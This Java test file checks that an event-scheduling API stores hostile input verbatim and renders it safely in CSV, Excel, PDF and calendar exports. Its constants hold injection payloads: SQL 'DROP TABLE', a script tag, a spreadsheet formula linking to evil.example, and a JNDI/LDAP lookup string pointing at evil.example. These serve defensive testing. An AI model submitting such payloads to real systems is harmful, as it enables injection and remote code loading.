package org.matchday.rest;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import net.fortuna.ical4j.model.Calendar;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.matchday.export.ReadBack;
import org.matchday.security.AccessFixture;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static io.restassured.RestAssured.given;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * SQL, script, template and spreadsheet-formula text in every text field is stored and returned verbatim, drawn as
 * text in PDFs and calendars, written as text cells in workbooks, and neutralised in CSV files.
 */
@QuarkusTest
class HostileTextTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    static final String SQL = "Robert'); DROP TABLE participant;--";
    static final String SCRIPT = "<script>alert('x')</script>";
    static final String FORMULA = "=HYPERLINK(\"http://evil.example\",\"x\")";
    static final String PLUS = "+1+1";
    static final String MINUS = "-2+3";
    static final String AT = "@SUM(A1)";
    static final String TAB = "\tTabbed";
    static final String TEMPLATE = "{inject:config} ${jndi:ldap://evil.example/x} {#each}";
    static final List<String> ALL = List.of(SQL, SCRIPT, FORMULA, PLUS, MINUS, AT, TAB, TEMPLATE);

    /** The small test event with hostile text in every text field; eu-01 meets tw-01 at T01. */
    static ObjectNode hostileEvent() throws IOException {
        ObjectNode doc = (ObjectNode) JSON.readTree(TestEvents.document("small-event.json"));
        doc.put("name", SCRIPT).put("venue", SQL);
        ((ObjectNode) doc.withArray("sessions").get(0)).put("name", FORMULA);
        ((ObjectNode) doc.withArray("tables").get(0)).put("name", AT);
        String[][] people = {{FORMULA, SQL}, {PLUS, TEMPLATE}, {SCRIPT, MINUS}, {TAB, AT}};
        ArrayNode participants = doc.withArray("participants");
        for (int i = 0; i < people.length; i++) {
            ObjectNode p = (ObjectNode) participants.get(i);
            p.put("name", people[i][0]).put("organisation", people[i][1]).put("group", SQL)
                    .put("description", SCRIPT).put("offers", FORMULA).put("seeks", TEMPLATE);
            p.putArray("sectors").add(SCRIPT).add(FORMULA);
        }
        for (JsonNode request : doc.withArray("requests")) {
            ((ObjectNode) request).put("note", SQL + " " + SCRIPT);
        }
        ((ObjectNode) doc.withArray("unscheduled").get(0)).put("reason", FORMULA);
        return doc;
    }

    @Test
    void hostileTextIsStoredAndReturnedVerbatim() throws IOException {
        ObjectNode doc = hostileEvent();
        long id = TestEvents.importEvent(doc.toString());
        JsonNode exported = JSON.readTree(given().get("/api/events/{id}/export", id).then().statusCode(200)
                .extract().asString());
        for (String field : List.of("name", "venue")) {
            assertEquals(doc.get(field), exported.get(field), field);
        }
        assertEquals(doc.get("tables").get(0).get("name"), exported.get("tables").get(0).get("name"));
        assertEquals(doc.get("sessions").get(0).get("name"), exported.get("sessions").get(0).get("name"));
        for (int i = 0; i < 4; i++) {
            for (String field : List.of("name", "organisation", "group", "description", "offers", "seeks",
                    "sectors")) {
                assertEquals(doc.get("participants").get(i).get(field), exported.get("participants").get(i).get(field),
                        "participants[" + i + "]." + field);
            }
        }
        assertEquals(SQL + " " + SCRIPT, exported.get("requests").get(0).get("note").asText());
        assertEquals(FORMULA, exported.get("unscheduled").get(0).get("reason").asText());
        given().get("/api/events/{id}/participants/eu-01", id).then().statusCode(200)
                .body("name", equalTo(FORMULA)).body("organisation", equalTo(SQL));
        given().get("/api/events/{id}/participants?q={q}", id, "DROP TABLE").then().statusCode(200)
                .body("id", hasItem("eu-01"));
    }

    @Test
    void participantsWriteHostileTextThroughTheirLinksAndGetItBackVerbatim() {
        AccessFixture f = AccessFixture.create();
        AccessFixture.withToken(f.tokenA).contentType(ContentType.JSON)
                .body(Map.of("organisation", SQL, "description", SCRIPT, "offers", FORMULA, "seeks", TEMPLATE,
                        "group", "EU cluster"))
                .put("/api/events/{id}/participants/eu-01/profile", f.eventId).then().statusCode(200)
                .body("organisation", equalTo(SQL)).body("description", equalTo(SCRIPT))
                .body("offers", equalTo(FORMULA)).body("seeks", equalTo(TEMPLATE));
        AccessFixture.withToken(f.tokenB).get("/api/events/{id}/participants/eu-01", f.eventId).then()
                .statusCode(200).body("description", equalTo(SCRIPT));
    }

    @Test
    void csvCellsAreNeutralisedAndOtherwiseVerbatim() throws IOException {
        long id = TestEvents.importEvent(hostileEvent().toString());
        List<CSVRecord> schedule = ReadBack.csv(given().get("/api/events/{id}/schedule.csv", id).then()
                .statusCode(200).extract().asByteArray());
        CSVRecord meeting = schedule.get(0);
        assertEquals("'" + AT, meeting.get("Table"));
        assertEquals("'" + FORMULA, meeting.get("Participant A"));
        assertEquals(SQL, meeting.get("Organisation A"));
        assertEquals(SCRIPT, meeting.get("Participant B"));
        assertEquals("'" + MINUS, meeting.get("Organisation B"));
        List<CSVRecord> agenda = ReadBack.csv(given().get("/api/events/{id}/participants/tw-01/agenda.csv", id)
                .then().statusCode(200).extract().asByteArray());
        CSVRecord withEu01 = agenda.stream().filter(r -> r.get("Counterpart id").equals("eu-01")).findFirst()
                .orElseThrow();
        assertEquals("'" + FORMULA, withEu01.get("Counterpart"));
        List<CSVRecord> all = new ArrayList<>(schedule);
        all.addAll(agenda);
        for (CSVRecord record : all) {
            for (String cell : record) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
                        "a cell a spreadsheet would run: " + cell);
            }
        }
    }

    @Test
    void workbookCellsAreTextHoldingTheValueVerbatim() throws IOException {
        long id = TestEvents.importEvent(hostileEvent().toString());
        byte[] xlsx = given().get("/api/events/{id}/schedule.xlsx", id).then().statusCode(200).extract()
                .asByteArray();
        List<String> found = new ArrayList<>();
        try (XSSFWorkbook workbook = ReadBack.workbook(xlsx)) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertFalse(cell.getCellType() == CellType.FORMULA, "a formula at " + cell.getAddress());
                        if (cell.getCellType() == CellType.STRING) {
                            found.add(cell.getStringCellValue());
                        }
                    }
                }
            }
        }
        for (String text : List.of(FORMULA, AT, SCRIPT, SQL, MINUS)) {
            assertTrue(found.contains(text), "no text cell holding " + text + " in " + found);
        }
    }

    @Test
    void pdfsAndCalendarsDrawTheTextAsText() throws IOException {
        long id = TestEvents.importEvent(hostileEvent().toString());
        String agenda = flat(ReadBack.pdfText(given().get("/api/events/{id}/participants/eu-01/agenda.pdf", id)
                .then().statusCode(200).extract().asByteArray()));
        assertThat(agenda, containsString(SCRIPT));
        assertThat(agenda, containsString(MINUS));
        String sheet = flat(ReadBack.pdfText(given().get("/api/events/{id}/tables/T01/sheet.pdf", id).then()
                .statusCode(200).extract().asByteArray()));
        for (String text : List.of(FORMULA, SQL, SCRIPT, MINUS)) {
            assertThat(sheet, containsString(text));
        }
        Calendar calendar = ReadBack.calendar(given().get("/api/events/{id}/participants/eu-01/agenda.ics", id)
                .then().statusCode(200).extract().asByteArray());
        assertThat(calendar.toString().replace("\r\n ", ""), containsString("<script>alert('x')</script>"));
    }

    /** PDF text with the line breaks of wrapped cells taken out. */
    private static String flat(String text) {
        return text.replace("\n", " ").replaceAll(" +", " ");
    }
}
